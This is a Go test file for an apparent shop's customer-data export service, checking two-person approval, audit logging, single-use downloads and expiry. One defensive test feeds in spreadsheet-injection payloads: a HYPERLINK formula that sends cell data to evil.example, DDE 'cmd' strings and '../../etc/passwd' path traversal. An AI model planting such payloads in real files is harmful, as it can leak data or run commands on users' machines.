package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"strongroom/base/db/dbtest"
	"strongroom/base/fault"
	"strongroom/base/id"
	"strongroom/guard/access"
	"strongroom/guard/access/accesstest"
	"strongroom/guard/staff"
	"strongroom/guard/staff/stafftest"
	"strongroom/shop/export"
	"strongroom/shop/order"
	"strongroom/shop/order/ordertest"
)

// shop is a house whose orders can be taken out.
type shop struct {
	*stafftest.House
	orders *order.Service
	export *export.Service
}

func open(t *testing.T, p dbtest.Pair) *shop {
	t.Helper()
	s := &shop{House: stafftest.New(t, p)}
	s.orders = ordertest.Service(s.House)
	var err error
	s.export, err = export.New(export.Deps{DB: s.Data, Vault: s.Vault, Audit: s.Audit, Jobs: s.Jobs, Orders: s.orders, Second: s.Desk, Shop: s.Shop})
	s.Must(err)
	s.Must(s.Desk.On(access.MassExport, s.export.Approved))
	s.Desk.OnUndo(access.MassExport, s.export.Undo)
	return s
}

func (s *shop) wish() export.Wish {
	return export.Wish{Span: order.Span{From: s.Clock.Now().AddDate(-1, 0, 0), Until: s.Clock.Now()}, Format: export.CSV, Reason: "moving to another ledger"}
}

// put places n orders and gives their ids and subjects.
func (s *shop) put(n int) (orders, subjects []id.ID) {
	for i := range n {
		o, subject := ordertest.Put(s.House, ordertest.Placed{Number: fmt.Sprintf("AAAA-%04d", i), Email: fmt.Sprintf("p%d@planted.example", i),
			Name: fmt.Sprintf("Planted Person %d", i), Street: "Plantedstreet 7", Product: "Bowl", At: s.Clock.Now().Add(-time.Hour + time.Duration(i)*time.Second)})
		orders, subjects = append(orders, o), append(subjects, subject)
	}
	return orders, subjects
}

// agreed has the first ask and the second agree.
func (s *shop) agreed(first, second *stafftest.Worker, w export.Wish) id.ID {
	s.T.Helper()
	request, err := s.export.Ask(s.Ctx, first.Seat(), w)
	s.Must(err)
	a, err := s.Desk.Approval(s.Ctx, second.Seat(), request)
	s.Must(err)
	state, err := s.Desk.Decide(s.Ctx, second.Seat(), request, a.Seal, true)
	s.Must(err)
	if state != staff.Carried {
		s.T.Fatalf("the act is %s", state)
	}
	s.Run()
	return request
}

func (s *shop) fetch(who access.Actor, v id.ID) (string, error) {
	d, err := s.export.Fetch(s.Ctx, who, v)
	if err != nil {
		return "", err
	}
	var b bytes.Buffer
	err = d.Write(s.Ctx, &b)
	if err == nil && int64(b.Len()) != d.Size {
		s.T.Errorf("%d bytes, and %d were announced", b.Len(), d.Size)
	}
	return b.String(), err
}

func rows(t *testing.T, text string) []map[string]string {
	t.Helper()
	list, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, l := range list[1:] {
		m := map[string]string{}
		for i, c := range l {
			m[list[0][i]] = c
		}
		out = append(out, m)
	}
	return out
}

// Attack 28, V2.3.5: nothing leaves before a second person agreed; then everybody who is in it has a look in the
// log, the asker alone has it, once, and it opens nowhere afterwards.
func TestManyPeoplesDataLeaveByTwoPeople_V2_3_5(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		_, subjects := s.put(230)
		stale := ida.Seat()
		stale.Fresh = false
		if _, err := s.export.Ask(s.Ctx, stale, s.wish()); !access.NeedsStepUp(err) {
			t.Errorf("without a step-up: %v", err)
		}
		for name, who := range accesstest.Actors() {
			_, err := s.export.Ask(s.Ctx, who, s.wish())
			if name != access.Owner && name != "console" && !fault.Is(err, fault.Forbidden) {
				t.Errorf("%s asked: %v", name, err)
			}
		}
		request, err := s.export.Ask(s.Ctx, ida.Seat(), s.wish())
		s.Must(err)
		s.Run()
		if n := s.Number(`SELECT COUNT(*) FROM export_file`); n != 0 {
			t.Fatal("a file before anybody agreed")
		}
		if out := s.Mailed(staff.LetterLoud, id.ID{}); out.To != "outside@elsewhere.example" || out.Link == "" || out.Approval.Facts["orders"] != "230" {
			t.Errorf("the outside address is told %+v", out)
		}
		a, err := s.Desk.Approval(s.Ctx, max.Seat(), request)
		s.Must(err)
		_, err = s.Desk.Decide(s.Ctx, max.Seat(), request, a.Seal, true)
		s.Must(err)
		s.Run()
		if n := s.Number(`SELECT COUNT(DISTINCT person) FROM audit_entry WHERE action = 'vault.look'`); n != 230 {
			t.Errorf("%d people have a look in the log", n)
		}
		handle, err := s.Vault.AuditHandle(s.Ctx, subjects[7])
		s.Must(err)
		told, err := s.Desk.LooksAt(s.Ctx, handle, time.UTC)
		s.Must(err)
		if len(told) != 1 || told[0].Reason != "access.why_export" || told[0].Role != "access.role_owner" {
			t.Errorf("the shopper is told %+v", told)
		}
		if n := s.Number(`SELECT COUNT(*) FROM export_piece WHERE bytes LIKE '%lanted%'`); n != 0 {
			t.Error("a piece lies there in clear")
		}
		for name, who := range map[string]access.Actor{"who agreed": max.Seat(), "a manager": accesstest.Roles()[access.Manager], "the console": access.Console()} {
			if _, err := s.fetch(who, request); err == nil {
				t.Errorf("%s fetched it", name)
			}
		}
		if _, err := s.fetch(ida.Seat(), id.ID{1, 2, 3}); !fault.Is(err, fault.NotFound) {
			t.Errorf("a guessed id: %v", err)
		}
		stale = ida.Seat()
		stale.Fresh = false
		if _, err := s.fetch(stale, request); !access.NeedsStepUp(err) {
			t.Errorf("fetched without a step-up: %v", err)
		}
		text, err := s.fetch(ida.Seat(), request)
		s.Must(err)
		list := rows(t, text)
		if len(list) != 230 || list[0]["number"] != "AAAA-0000" || list[229]["email"] != "p229@planted.example" || list[3]["billing_name"] != "Planted Person 3" || list[3]["total"] != "12.00" {
			t.Errorf("%d rows, the last %v", len(list), list[len(list)-1])
		}
		if _, err := s.fetch(ida.Seat(), request); !fault.Is(err, fault.Gone) {
			t.Errorf("fetched twice: %v", err)
		}
		if n := s.Number(`SELECT COUNT(*) FROM export_piece`); n != 0 {
			t.Errorf("%d pieces are left", n)
		}
		if n := s.Number(`SELECT COUNT(*) FROM vault_erasure WHERE done_at > 0`); n != 1 {
			t.Error("the file's key is not destroyed")
		}
		if n := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'export.fetch' AND outcome = 2`); n < 3 {
			t.Errorf("%d refused fetches in the log", n)
		}
	})
}

// A connection that breaks does not cost the file; five do, and so does a day.
func TestAFileIsThereForADay(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		s.put(3)
		request := s.agreed(ida, max, s.wish())
		who := ida.Seat()
		first, err := s.export.Fetch(s.Ctx, who, request)
		s.Must(err)
		if _, err := s.export.Fetch(s.Ctx, who, request); !fault.Is(err, fault.Conflict) {
			t.Errorf("fetched by two at once: %v", err)
		}
		if err := first.Write(s.Ctx, broken{}); err == nil {
			t.Fatal("a broken connection was taken for a whole one")
		}
		second, err := s.export.Fetch(s.Ctx, who, request)
		s.Must(err)
		_ = second // whose process died
		s.Clock.Advance(16 * time.Minute)
		s.Again(ida)
		if _, err := s.fetch(ida.Seat(), request); err != nil {
			t.Errorf("after a process died: %v", err)
		}
		late := s.agreed(ida, max, s.wish())
		s.Clock.Advance(24*time.Hour + time.Second)
		s.Again(ida, max)
		if _, err := s.fetch(ida.Seat(), late); !fault.Is(err, fault.Gone) {
			t.Errorf("after its day: %v", err)
		}
		s.Must(s.export.Tend(s.Ctx))
		if n := s.Number(`SELECT COUNT(*) FROM export_piece`) + s.Number(`SELECT COUNT(*) FROM export_file WHERE state < 4`); n != 0 {
			t.Errorf("%d are left after their day", n)
		}
		often := s.agreed(ida, max, s.wish())
		for range 5 {
			d, err := s.export.Fetch(s.Ctx, ida.Seat(), often)
			s.Must(err)
			_ = d.Write(s.Ctx, broken{})
		}
		if _, err := s.fetch(ida.Seat(), often); !fault.Is(err, fault.Gone) {
			t.Errorf("a sixth time: %v", err)
		}
	})
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("the connection broke") }

// The link in the mail to the outside address stops the act, also when the file lies there, and not when somebody has it.
func TestTheMailedLinkStopsAnExport(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		s.put(3)
		who := access.Guest(id.ID{}, ida.Seat().Origin)
		waiting, err := s.export.Ask(s.Ctx, ida.Seat(), s.wish())
		s.Must(err)
		stop := s.Mailed(staff.LetterLoud, id.ID{}).Link
		s.Must(s.Desk.Stop(s.Ctx, stop, who))
		a, err := s.Desk.Approval(s.Ctx, max.Seat(), waiting)
		s.Must(err)
		if _, err := s.Desk.Decide(s.Ctx, max.Seat(), waiting, a.Seal, true); !fault.Is(err, fault.Conflict) {
			t.Errorf("agreed to what was stopped: %v", err)
		}
		made := s.agreed(ida, max, s.wish())
		s.Must(s.Desk.Stop(s.Ctx, s.Mailed(staff.LetterLoud, id.ID{}).Link, who))
		if _, err := s.fetch(ida.Seat(), made); !fault.Is(err, fault.Gone) {
			t.Errorf("fetched what was stopped: %v", err)
		}
		had := s.agreed(ida, max, s.wish())
		_, err = s.fetch(ida.Seat(), had)
		s.Must(err)
		if err := s.Desk.Stop(s.Ctx, s.Mailed(staff.LetterLoud, id.ID{}).Link, who); !fault.Is(err, fault.Conflict) {
			t.Errorf("stopped what somebody has: %v", err)
		}
		late, err := s.export.Ask(s.Ctx, ida.Seat(), s.wish())
		s.Must(err)
		link := s.Mailed(staff.LetterLoud, id.ID{}).Link
		s.Tend(5 * 24 * time.Hour)
		if err := s.Desk.Stop(s.Ctx, link, who); !fault.Is(err, fault.Gone) {
			t.Errorf("a link of days ago: %v", err)
		}
		if a, err := s.Desk.Approval(s.Ctx, access.Console(), late); err != nil || a.State != staff.Expired {
			t.Errorf("%s %v", a.State, err)
		}
	})
}

// Alone: a day goes by first. Who left meanwhile gets nothing.
func TestAnExportOfSomebodyAlone(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida := s.Owner()
		s.put(3)
		request, err := s.export.Ask(s.Ctx, ida.Seat(), s.wish())
		s.Must(err)
		s.Tend(23 * time.Hour)
		if n := s.Number(`SELECT COUNT(*) FROM export_file`); n != 0 {
			t.Fatal("a file before its day")
		}
		s.Tend(time.Hour + time.Second)
		s.Again(ida)
		if text, err := s.fetch(ida.Seat(), request); err != nil || len(rows(t, text)) != 3 {
			t.Errorf("%q %v", text, err)
		}
	})
}

// Attack 48, V1.2.10: what people typed is no formula and makes no cell, in any program that opens the file; and JSON has it as it is.
func TestNoFormulaLeaves_V1_2_10(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		bad := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r\n=1+1", "  =1+1",
			"x\n=cmd|' /C calc'!A0", "＝1+1", "\u200b=1+1", `"=1+1`, `";=1+1;"`, "|calc", "%0A=1", "\uFEFF=1", "'=1", "../../etc/passwd", "..\\..\\x.csv"}
		for i, b := range bad {
			ordertest.Put(s.House, ordertest.Placed{Number: fmt.Sprintf("BBBB-%04d", i), Email: "a@b.example", Name: b, Street: b, Note: b, Product: b,
				At: s.Clock.Now().Add(-time.Hour + time.Duration(i)*time.Second)})
		}
		request := s.agreed(ida, max, s.wish())
		d, err := s.export.Fetch(s.Ctx, ida.Seat(), request)
		s.Must(err)
		if strings.ContainsAny(d.Name, `/\ "';`) || !strings.HasSuffix(d.Name, ".csv") || strings.Contains(d.Name, "..") {
			t.Errorf("the file is called %q", d.Name)
		}
		var b bytes.Buffer
		s.Must(d.Write(s.Ctx, &b))
		list := rows(t, b.String())
		if len(list) != len(bad) {
			t.Fatalf("%d rows", len(list))
		}
		for i, m := range list {
			for _, c := range []string{"note", "delivery_name", "billing_street", "name"} {
				cell := strings.TrimLeft(m[c], " \u200b\"")
				if cell == "" || strings.ContainsAny(cell[:1], "=+-@\t\r\n|%") || strings.HasPrefix(cell, "＝") || strings.ContainsAny(m[c], "\t\r\n") {
					t.Errorf("%s of %q is %q", c, bad[i], m[c])
				}
			}
		}
		// Opened by a program that separates at semicolons or tabs, every text is still one cell.
		if n := strings.Count(b.String(), "\r\n"); n != len(bad)+1 {
			t.Errorf("%d lines for %d rows", n, len(bad)+1)
		}
		w := s.wish()
		w.Format = export.Lines
		text, err := s.fetch(ida.Seat(), s.agreed(ida, max, w))
		s.Must(err)
		dec := json.NewDecoder(strings.NewReader(text))
		for i := range bad {
			var o struct {
				Person struct{ Note string }
				Lines  []struct{ Name string }
			}
			s.Must(dec.Decode(&o))
			if o.Person.Note != bad[i] || o.Lines[0].Name != bad[i] {
				t.Errorf("%q became %q", bad[i], o.Person.Note)
			}
		}
	})
}

// Numbers need one right and hold nothing personal; an order's sums stand once, so that columns can be added up.
func TestNumbersHoldNobody(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		s.put(205)
		for name, who := range accesstest.Actors() {
			_, err := s.export.Numbers(s.Ctx, who, s.wish())
			if may := who.May(access.PaymentView) && who.May(access.OrderView); may != (err == nil) {
				t.Errorf("%s: %v", name, err)
			}
		}
		for _, f := range []export.Format{export.CSV, export.Lines} {
			w := s.wish()
			w.Format, w.Reason = f, ""
			st, err := s.export.Numbers(s.Ctx, accesstest.Roles()[access.Accounting], w)
			s.Must(err)
			var b bytes.Buffer
			n, err := st.Write(s.Ctx, &b)
			s.Must(err)
			if n != 205 || strings.Contains(b.String(), "lanted") || strings.Contains(b.String(), "@") || !strings.Contains(b.String(), "12.00") {
				t.Errorf("%d orders in %.300s", n, b.String())
			}
		}
		if n := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'vault.look'`); n != 0 {
			t.Errorf("%d looks", n)
		}
		if n := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'export.numbers' AND outcome = 1`); n < 3 {
			t.Errorf("%d entries", n)
		}
	})
}

// Who was erased is in an export with what tax law keeps, and no look at more than that.
func TestAnErasedPersonLeavesAsOne(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		s.put(2)
		_, err := s.orders.Erase(s.Ctx, "AAAA-0000", access.Console(), "asked for it", true)
		s.Must(err)
		text, err := s.fetch(ida.Seat(), s.agreed(ida, max, s.wish()))
		s.Must(err)
		list := rows(t, text)
		if list[0]["erased"] != "yes" || list[0]["email"] != "" || list[0]["delivery_name"] != "" || list[0]["billing_name"] != "Planted Person 0" || list[1]["erased"] != "no" {
			t.Errorf("%v", list[0])
		}
	})
}

// On the console it is as loud as can be: owners and the outside address are mailed, and the looks come before the lines.
func TestTheConsoleExportsLoudly(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida := s.Owner()
		s.put(4)
		if _, err := s.Desk.OnConsole(s.Ctx, ida.Seat(), access.MassExport, "why not"); !fault.Is(err, fault.Forbidden) {
			t.Errorf("an owner at a desk: %v", err)
		}
		if _, err := s.Desk.OnConsole(s.Ctx, access.Console(), access.EraseBackup, "there is none"); err == nil {
			t.Error("an act that nobody carries out")
		}
		if _, err := s.Desk.OnConsole(s.Ctx, access.Console(), access.MassExport, " "); !fault.Is(err, fault.Invalid) {
			t.Errorf("without a reason: %v", err)
		}
		if _, err := s.export.OnConsole(s.Ctx, access.Approved{}, s.wish()); !fault.Is(err, fault.Forbidden) {
			t.Errorf("without being told to anybody: %v", err)
		}
		by, err := s.Desk.OnConsole(s.Ctx, access.Console(), access.MassExport, "moving house")
		s.Must(err)
		st, err := s.export.OnConsole(s.Ctx, by, s.wish())
		s.Must(err)
		if n, err := st.Write(s.Ctx, io.Discard); err != nil || n != 4 {
			t.Errorf("%d %v", n, err)
		}
		if in, out := s.Mailed(staff.LetterConsole, ida.ID), s.Mailed(staff.LetterConsole, id.ID{}); in.Danger != access.MassExport || out.To != "outside@elsewhere.example" {
			t.Errorf("%+v %+v", in, out)
		}
		if n := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'vault.look' AND outcome = 1`); n != 4 {
			t.Errorf("%d looks", n)
		}
		if n := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'staff.console_act' AND outcome = 1`); n != 1 {
			t.Errorf("%d entries", n)
		}
	})
}

// A job that dies goes on where it stood: nobody is in the file twice, or without a look.
func TestAMakingThatDiesGoesOn(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := open(t, p)
		ida, max := s.TwoOwners()
		s.put(250)
		request, err := s.export.Ask(s.Ctx, ida.Seat(), s.wish())
		s.Must(err)
		a, err := s.Desk.Approval(s.Ctx, max.Seat(), request)
		s.Must(err)
		_, err = s.Desk.Decide(s.Ctx, max.Seat(), request, a.Seal, true)
		s.Must(err)
		ctx, die := context.WithCancel(s.Ctx)
		stop := time.AfterFunc(15*time.Millisecond, die)
		_, _ = s.Jobs.RunDue(ctx)
		stop.Stop()
		s.Run()
		s.Clock.Advance(time.Minute)
		s.Run()
		s.Clock.Advance(5 * time.Minute)
		s.Run()
		if looks, orders := s.Number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'vault.look'`), s.Number(`SELECT orders FROM export_file`); looks != 250 || orders != 250 {
			t.Errorf("%d looks, %d orders", looks, orders)
		}
		text, err := s.fetch(ida.Seat(), request)
		s.Must(err)
		seen := map[string]bool{}
		for _, m := range rows(t, text) {
			if seen[m["number"]] {
				t.Errorf("%s stands twice", m["number"])
			}
			seen[m["number"]] = true
		}
		if len(seen) != 250 {
			t.Errorf("%d orders", len(seen))
		}
	})
}

// The columns that docs/exports.md describes are those that the files have.
func TestTheColumnsAreDocumented(t *testing.T) {
	b, err := os.ReadFile("../../docs/exports.md")
	if err != nil {
		t.Fatal(err)
	}
	_, people, _ := strings.Cut(string(b), "## With people")
	people, numbers, ok := strings.Cut(people, "## Numbers only")
	if !ok {
		t.Fatal("the page has other headings")
	}
	for text, columns := range map[string][]string{people: export.PeopleColumns(), numbers: export.NumberColumns()} {
		var described []string
		for _, line := range strings.Split(text, "\n") {
			if !strings.HasPrefix(line, "| `") {
				continue
			}
			cell, _, _ := strings.Cut(line[2:], "|")
			for _, w := range strings.Fields(cell) {
				described = append(described, strings.Trim(w, "`"))
			}
		}
		if !slices.Equal(described, columns) {
			t.Errorf("described: %v\nwritten:   %v", described, columns)
		}
	}
}
